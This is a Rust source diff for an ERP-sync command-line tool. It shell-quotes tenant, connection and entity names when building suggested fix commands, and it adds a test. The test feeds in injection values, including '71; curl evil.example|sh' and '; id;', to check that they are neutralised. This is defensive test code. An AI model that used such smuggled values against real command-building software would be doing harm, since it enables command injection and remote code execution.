@@ -4,6 +4,7 @@
 use serde::{Deserialize, Serialize};
 
 use crate::language::Language;
+use crate::shell;
 
 /// What kind of thing blocks.
 #[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
@@ -178,32 +179,41 @@ impl Kind {
     }
 
     /// What to do about it where it stands, in one sentence that can be typed as it is but for
-    /// what only a person knows.
+    /// what only a person knows: names are quoted as a shell wants them.
     #[must_use]
     pub fn fix_at(self, place: Place<'_>, language: Language) -> String {
-        self.fix(language)
-            .replace("{tenant}", place.tenant)
-            .replace("{connection}", place.connection)
-            .replace("{entity}", place.entity)
+        let mut out = String::new();
+        let mut parts = self.fix(language).split('{');
+        out.push_str(parts.next().unwrap_or_default());
+        for part in parts {
+            let (name, rest) = part.split_once('}').unwrap_or_default();
+            out.push_str(&match name {
+                "tenant" => shell::value(place.tenant),
+                "connection" => shell::value(place.connection),
+                _ => shell::argument(place.entity),
+            });
+            out.push_str(rest);
+        }
+        out
     }
 
     const fn fix(self, language: Language) -> &'static str {
         let (pt, en) = match self {
             Self::ExpenseTypeUnlinked => (
-                "vincule o tipo a uma categoria: malote link set --tenant {tenant} --connection {connection} expense-type {entity} CATEGORIA",
-                "link the type to a category: malote link set --tenant {tenant} --connection {connection} expense-type {entity} CATEGORY",
+                "vincule o tipo a uma categoria: malote link set --tenant{tenant} --connection{connection} expense-type {entity} CATEGORIA",
+                "link the type to a category: malote link set --tenant{tenant} --connection{connection} expense-type {entity} CATEGORY",
             ),
             Self::MemberUnsynced => (
-                "cadastre o fornecedor no ERP com este e-mail e a etiqueta Funcionário, e sincronize: malote connection sync --tenant {tenant} --connection {connection}",
-                "give the supplier this e-mail and the tag Funcionário in the ERP, then: malote connection sync --tenant {tenant} --connection {connection}",
+                "cadastre o fornecedor no ERP com este e-mail e a etiqueta Funcionário, e sincronize: malote connection sync --tenant{tenant} --connection{connection}",
+                "give the supplier this e-mail and the tag Funcionário in the ERP, then: malote connection sync --tenant{tenant} --connection{connection}",
             ),
             Self::AccountUnlinked => (
-                "informe a conta: malote link set --tenant {tenant} --connection {connection} account default CÓDIGO",
-                "name the account: malote link set --tenant {tenant} --connection {connection} account default CODE",
+                "informe a conta: malote link set --tenant{tenant} --connection{connection} account default CÓDIGO",
+                "name the account: malote link set --tenant{tenant} --connection{connection} account default CODE",
             ),
             Self::CredentialsRefused => (
-                "informe credenciais novas: malote connection add, e teste: malote connection test --tenant {tenant} --connection {connection}",
-                "give new credentials with malote connection add, then: malote connection test --tenant {tenant} --connection {connection}",
+                "informe credenciais novas: malote connection add, e teste: malote connection test --tenant{tenant} --connection{connection}",
+                "give new credentials with malote connection add, then: malote connection test --tenant{tenant} --connection{connection}",
             ),
             Self::AlreadyPaid => (
                 "acerte no ERP e reenvie (delivery replay), ou descarte (delivery discard)",
@@ -218,8 +228,8 @@ impl Kind {
                 "replay the right approval, discard the other",
             ),
             Self::EditedInTarget => (
-                "reenvie para prevalecer o relatório, ou descarte para manter o ERP",
-                "replay to let the report win, discard to keep the ERP's values",
+                "reenvie para prevalecer o relatório (um título cancelado, só depois de excluído no ERP), ou descarte para manter o ERP",
+                "replay to let the report win (a cancelled payable only once it is deleted in the ERP), discard to keep the ERP's values",
             ),
             Self::RemovedInTarget => (
                 "reenvie para criar de novo, ou descarte",
@@ -292,6 +302,46 @@ mod tests {
             }
             let json = serde_json::to_string(&kind).unwrap();
             assert_eq!(json, format!("\"{}\"", kind.name()));
+        }
+    }
+
+    #[test]
+    fn a_fix_can_be_typed_whatever_people_and_producers_call_things() {
+        let place = |connection, entity| Place {
+            tenant: "acme",
+            connection,
+            entity,
+        };
+        let fix = |kind: Kind, place| {
+            let fix = kind.fix_at(place, Language::English);
+            let (_, command) = fix.split_once("malote ").unwrap();
+            command.to_owned()
+        };
+        let kind = Kind::ExpenseTypeUnlinked;
+        assert_eq!(
+            fix(kind, place("matriz", "71")),
+            "link set --tenant acme --connection matriz expense-type 71 CATEGORY"
+        );
+        assert_eq!(
+            fix(kind, place("Matriz SP", "71; curl evil.example|sh")),
+            "link set --tenant acme --connection 'Matriz SP' expense-type \
+             '71; curl evil.example|sh' CATEGORY"
+        );
+        assert_eq!(
+            fix(kind, place("-x", "-5")),
+            "link set --tenant acme --connection=-x expense-type -- -5 CATEGORY"
+        );
+        assert_eq!(
+            fix(kind, place("{entity}", "; id;")),
+            "link set --tenant acme --connection '{entity}' expense-type '; id;' CATEGORY",
+            "a name is no place for another"
+        );
+        for language in [Language::Portuguese, Language::English] {
+            let edited = Kind::EditedInTarget.fix_at(place("matriz", "ML1"), language);
+            assert!(
+                edited.contains("cancel"),
+                "what brings a cancelled one back: {edited}"
+            );
         }
     }
 }
